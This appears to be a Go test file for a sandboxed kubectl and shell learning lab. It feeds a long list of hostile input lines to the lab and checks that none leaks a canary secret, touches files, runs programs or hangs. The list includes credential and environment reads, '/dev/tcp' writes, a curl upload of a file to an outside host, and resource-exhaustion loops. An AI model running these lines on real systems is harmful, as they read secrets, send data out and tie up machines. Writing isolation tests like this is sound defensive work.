package lab

import (
	"bytes"
	"context"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"caderno/features/shell"
)

// secret is in a file, in the environment, and in the name of a file: no line may
// bring it to light.
const secret = "canario-a5f3"

// machine is what a line of a page must not touch: a home, a working directory
// and a PATH, with traps in them.
type machine struct {
	root, canary, temp string
}

func newMachine(t *testing.T) *machine {
	root := t.TempDir()
	m := &machine{root: filepath.Join(root, "maquina"), temp: filepath.Join(root, "temp")}
	m.canary = filepath.Join(m.root, "canario.yaml")
	for _, folder := range []string{m.root, m.temp, filepath.Join(m.root, ".kube"), filepath.Join(m.root, "bin")} {
		require.NoError(t, os.MkdirAll(folder, 0o755))
	}
	manifest := "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: canario\ndata:\n  texto: " + secret + "\n"
	require.NoError(t, os.WriteFile(m.canary, []byte(manifest), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(m.root, ".kube", "config"), []byte(secret), 0o644))
	for _, program := range []string{"sh", "ls", "vi", "vim", "diff", "kubectl", "kubectl-plug", "id", "env", "git", "helm"} {
		trap := "#!/bin/sh\necho " + secret + " > " + filepath.Join(m.root, "rodou") + "\necho " + secret + "\n"
		require.NoError(t, os.WriteFile(filepath.Join(m.root, "bin", program), []byte(trap), 0o755))
	}
	t.Chdir(m.root)
	for name, value := range map[string]string{
		"HOME": m.root, "TMPDIR": m.temp, "PATH": filepath.Join(m.root, "bin"), "SEGREDO": secret,
		"EDITOR": "vi", "KUBE_EDITOR": "vi", "KUBECTL_EXTERNAL_DIFF": "diff", "KUBECONFIG": filepath.Join(m.root, ".kube", "config"),
	} {
		t.Setenv(name, value)
	}
	return m
}

// files lists what there is under a folder, with sizes and dates.
func files(t *testing.T, folder string) string {
	var all strings.Builder
	require.NoError(t, filepath.WalkDir(folder, func(path string, entry fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := entry.Info()
		if err != nil {
			return err
		}
		if !info.IsDir() {
			all.WriteString(path + info.Mode().String() + info.ModTime().Format(time.RFC3339Nano) + "\n")
		} else {
			all.WriteString(path + "/\n")
		}
		return nil
	}))
	return all.String()
}

// hostile are lines that somebody would type who wants something of the machine.
// CANARY is a file of it, ROOT its folder.
var hostile = []string{
	// kubectl reads files.
	"kubectl apply -f CANARY", "kubectl apply -f ./canario.yaml", "kubectl apply -f=canario.yaml", "kubectl apply -fcanario.yaml",
	"kubectl apply -f ../../../../../../../../CANARY", "kubectl apply -f .", "kubectl apply -R -f ROOT", "kubectl apply -f file://CANARY",
	"kubectl create -f CANARY", "kubectl replace --force -f CANARY", "kubectl delete -f CANARY", "kubectl diff -f CANARY",
	"kubectl get -f CANARY -o yaml", "kubectl describe -f CANARY", "kubectl label -f CANARY a=b --local -o yaml",
	"kubectl annotate --local -f CANARY a=b -o yaml", "kubectl set image --local -f CANARY a=b -o yaml", "kubectl scale -f CANARY --replicas=1",
	"kubectl rollout status -f CANARY", "kubectl wait -f CANARY --for=delete", "kubectl expose -f CANARY --port=80",
	"kubectl patch --local -f CANARY -p '{}' -o yaml", "kubectl patch deployment ola --patch-file CANARY", "kubectl apply set-last-applied -f CANARY",
	"kubectl create --raw /api/v1/namespaces/default/configmaps -f CANARY", "kubectl auth reconcile -f CANARY",
	"kubectl create configmap a --from-file=CANARY", "kubectl create configmap a --from-file=x=CANARY", "kubectl create configmap a --from-file=ROOT",
	"kubectl create configmap a --from-env-file=CANARY", "kubectl create secret generic a --from-file=CANARY",
	"kubectl create secret generic a --from-env-file CANARY", "kubectl create secret tls a --cert=CANARY --key=CANARY",
	"kubectl create secret docker-registry a --from-file=.dockerconfigjson=CANARY",
	"kubectl get pods -o go-template-file=CANARY", "kubectl get pods -o jsonpath-file=CANARY", "kubectl get pods -o custom-columns-file=CANARY",
	"kubectl get pods -o go-template --template=CANARY", "kubectl get pods -o templatefile=CANARY", "kubectl get pods -o=go-template-file --template=CANARY", "kubectl get pods -o templatefile --template=CANARY", "kubectl get pods -o jsonpath-file --template CANARY", "kubectl explain pods --output=CANARY", "kubectl get nodes --template CANARY",
	"kubectl apply -k ROOT", "kubectl apply -k https://caderno.example/x", "kubectl kustomize ROOT", "kubectl apply -f https://caderno.example/x.yaml",
	"kubectl create -f http://127.0.0.1:1/x.yaml", "kubectl apply -f /dev/fd/3", "kubectl apply -f /proc/self/environ", "kubectl apply -f /dev/tty",
	// Who one is, and where the cluster is.
	"kubectl --kubeconfig CANARY get pods", "kubectl --kubeconfig=CANARY config view", "kubectl get pods --client-certificate=CANARY --client-key=CANARY",
	"kubectl --certificate-authority=CANARY get pods", "kubectl --token-file=CANARY get pods", "kubectl --server=http://127.0.0.1:1 get pods",
	"kubectl -s https://caderno.example get pods", "kubectl --username=a get pods", "kubectl --cluster=outro get pods", "kubectl --context=outro get pods",
	"kubectl config set-credentials a --exec-command=id", "kubectl config set users.caderno.exec.command id",
	"kubectl config set-cluster caderno --certificate-authority=CANARY --embed-certs", "kubectl config set-credentials a --client-key=CANARY --embed-certs",
	"kubectl config set-context --current --namespace=x", "kubectl config use-context x", "kubectl config delete-context caderno", "kubectl config view --flatten --raw",
	"kubectl --kuberc=CANARY get pods", "kubectl kuberc view", "kubectl kuberc set --section defaults --command get --option output=yaml",
	// kubectl writes files, starts programs, opens doors.
	"kubectl get pods --cache-dir=ROOT/cache", "kubectl --profile=cpu --profile-output=ROOT/perfil get pods", "kubectl cluster-info dump --output-directory=ROOT/despejo",
	"kubectl get pods --log-file=ROOT/log", "kubectl get pods --log_dir=ROOT", "kubectl -v=9 get pods --vmodule=CANARY=9",
	"kubectl edit deployment ola", "kubectl create deployment a --image=b --edit", "kubectl apply edit-last-applied deployment ola", "kubectl create -f CANARY --edit",
	"kubectl exec ola -- id", "kubectl attach ola", "kubectl cp CANARY ola:/x", "kubectl cp ola:/x ROOT/x", "kubectl debug ola -it --image=b", "kubectl run a --image=b -it -- sh",
	"kubectl proxy --port=0 --www=ROOT", "kubectl port-forward ola 0:80", "kubectl plug", "kubectl plugin list", "kubectl ../bin/id", "kubectl completion bash --kubeconfig CANARY",
	"kubectl __complete get pods --kubeconfig=CANARY ''", "kubectl __complete --cache-dir=ROOT/cache get pods ''", "kubectl __completeNoDesc --kuberc CANARY get ''",
	"kubectl create configmap a --from-env-file=- <<EOF\nSEGREDO\nEOF", "kubectl set env deployment/ola --list --from=CANARY", "echo SEGREDO | kubectl set env --local -f - SEGREDO-",
	// The shell: programs, files, the environment.
	"ROOT/bin/id", "./bin/id", "bin/id", "ls", "sh -c id", "env", "id", "vi CANARY", "git clone x", "helm list", "exec id", "exec ROOT/bin/id", "command id", "command -v CANARY",
	"type CANARY", "which id", "builtin echo a", "eval 'source CANARY'", "source CANARY", ". CANARY", ". canario.yaml", "bash CANARY", "timeout 5 ROOT/bin/id", "timeout 5 sed -n p CANARY",
	"timeout 5 source CANARY", "cat CANARY", "cat canario.yaml", "cat < CANARY", "cat ../../../../../../../../CANARY", "grep . CANARY", "head CANARY", "tail CANARY", "sort CANARY", "wc CANARY", "cut -c1-9 CANARY",
	"uniq CANARY ROOT/uniq", "sort -o ROOT/sort CANARY", "sed p CANARY", "sed -n 'w ROOT/sed' CANARY", "awk '{print > \"ROOT/awk\"}' CANARY", "awk 'BEGIN{system(\"id\")}'", "awk 'BEGIN{print ENVIRON[\"SEGREDO\"]}'",
	"grep -f CANARY canario.yaml", "echo a > ROOT/novo", "echo a >> CANARY", "echo a >| CANARY", "echo a &> ROOT/novo", "echo a > ~/novo", "echo a > ../novo", "echo a > /novo/outro", "> CANARY",
	"kubectl get pods > ROOT/pods", "kubectl get nodes 2> ROOT/erro", "cat <> CANARY", "echo a > /dev/tcp/127.0.0.1/1", "echo a > /proc/self/comm", "cat /proc/self/environ", "cat /dev/stdin",
	"echo $SEGREDO", "echo ${SEGREDO}", "echo $HOME $PATH $KUBECONFIG", "echo ~root ~nobody", "cat ~root/.bashrc", "echo *", "echo ROOT/*", "echo /*", "echo ../*", "echo $(< CANARY)", "echo `cat CANARY`",
	"cat <(cat CANARY)", "cat <<< $(cat CANARY)", "x=$SEGREDO; echo $x", "declare -p", "export -p", "set", "printenv", "read x < CANARY; echo $x", "mapfile x < CANARY", "cd ROOT && cat canario.yaml", "cd / && echo *", "pushd ROOT",
	"[ -f CANARY ] && echo existe", "[[ -f CANARY ]] && echo existe", "test -e CANARY && echo existe", "trap 'cat CANARY' EXIT", "alias l='cat CANARY'", "umask 0", "kill 1", "ulimit -f 0", "shopt -s globstar; echo **",
	"f() { cat CANARY; }; f", "(cat CANARY)", "{ cat CANARY; }", "cat CANARY &", "id | cat", "cat CANARY | kubectl apply -f -", "kubectl apply -f - < CANARY",
	// curl.
	"curl file://CANARY", "curl -o ROOT/curl http://192.0.2.10/", "curl -O http://192.0.2.10/x", "curl -d @CANARY http://192.0.2.10/", "curl -T CANARY http://192.0.2.10/", "curl -K CANARY", "curl --config CANARY",
	"curl http://127.0.0.1:22/", "curl http://caderno.example/", "curl -u a:b -E CANARY http://192.0.2.10/", "curl -x http://127.0.0.1:1 http://192.0.2.10/", "curl --unix-socket ROOT/x http://a/",
	// What would never end, or fill the memory.
	"while :; do :; done", "for ((;;)); do :; done", "until false; do :; done", "f() { f; }; f", "echo {1..999999999}", "echo {a,b}{a,b}{a,b}", "x=a; while [[ 1 ]]; do x=$x$x; done",
	"for a in 1 2 3 4 5 6 7 8 9 0; do for b in 1 2 3 4 5 6 7 8 9 0; do for c in 1 2 3 4 5 6 7 8 9 0; do :; done; done; done", "awk 'BEGIN{while(1);}'", "sed ':a;ba' canario.yaml", "echo $((1<<62))",
	"echo $(cat" + strings.Repeat(" grande", 500) + ") | wc -c", "for x in $(cat grande); do echo" + strings.Repeat(" $x", 39) + "; done", "for x in $(cat grande grande); do echo $x$x$x > /dev/null; done",
	`kubectl get nodes -o go-template='{{define "x"}}{{if lt (len .) 60}}{{template "x" (print . "a")}}{{template "x" (print . "a")}}{{end}}{{end}}{{template "x" "a"}}'`, "kubectl get nodes --template '{{range .items}}{{end}}'",
	// The laboratory's own commands.
	"fluxo > ROOT/fluxo", "ajuda CANARY", "avançar CANARY", "parar CANARY", "peças > CANARY", "relógio | id",
}

// TestAPageTouchesNothingOfTheMachine: an attacker's lines find nothing, leave
// nothing, and end.
func TestAPageTouchesNothingOfTheMachine(t *testing.T) {
	m := newMachine(t)
	before, watcher := files(t, m.root), watchMachine(t, m)
	var out bytes.Buffer
	l, err := New(Options{Workers: 1, Seed: 1, Stdout: &out, Stderr: &out, Width: func() int { return 80 }, Live: true, Files: &shell.Memory{}, MostHops: 2000})
	require.NoError(t, err)
	require.NoError(t, l.options.Files.WriteFile("grande", bytes.Repeat([]byte("a"), shell.MostFileBytes)))
	l.Run(context.Background(), "kubectl create deployment ola --image=caderno/ola:1.0")
	l.Complete("kubectl get po", 14) // it has a folder of its own
	private := files(t, m.temp)
	for _, line := range hostile {
		out.Reset()
		typed := strings.NewReplacer("CANARY", m.canary, "ROOT", m.root).Replace(line)
		ctx, stop := context.WithTimeout(t.Context(), 20*time.Second)
		l.Run(ctx, typed)
		assert.NoError(t, ctx.Err(), "%s does not end", line)
		stop()
		assert.Less(t, out.Len(), 2<<20, line)
		assert.NotContains(t, out.String(), secret, line)
		require.Equal(t, before, files(t, m.root), line)
		assert.NotContains(t, files(t, m.temp), "canario", line)
		assert.Empty(t, watcher(), "%s opened something", line)
	}
	assert.Equal(t, []string{"pods"}, l.Complete("kubectl get pods", 16).Words)
	assert.Equal(t, []string{"ola.yaml"}, pageFiles(t, l, "kubectl apply -f o").Words)
	for _, line := range []string{"kubectl --kubeconfig " + m.canary + " get ", "kubectl get --cache-dir=" + m.root + "/cache pods ", "cat " + m.root + "/", "kubectl --kuberc=" + m.canary + " get po"} {
		assert.NotContains(t, strings.Join(l.Complete(line, len(line)).Words, "\n"), secret, line)
		require.Equal(t, before, files(t, m.root), line)
		assert.Empty(t, watcher(), "%s opened something", line)
	}
	out.Reset()
	l.Run(t.Context(), "kubectl get configmaps,secrets -A -o yaml")
	assert.NotContains(t, out.String(), secret)
	out.Reset()
	l.Run(t.Context(), "kubectl get deployment ola -o name")
	assert.Equal(t, "deployment.apps/ola\n", out.String(), "the laboratory is whole after all this")
	assert.Equal(t, strings.Count(private, "\n"), strings.Count(files(t, m.temp), "\n"), "nothing is left behind in its private folder")
	require.NoError(t, l.Close())
	assert.Equal(t, m.temp+"/\n", files(t, m.temp))
}

// pageFiles completes the name of a file of the page.
func pageFiles(t *testing.T, l *Lab, line string) Completion {
	require.NoError(t, l.options.Files.WriteFile("ola.yaml", []byte("a")))
	return l.Complete(line, len(line))
}
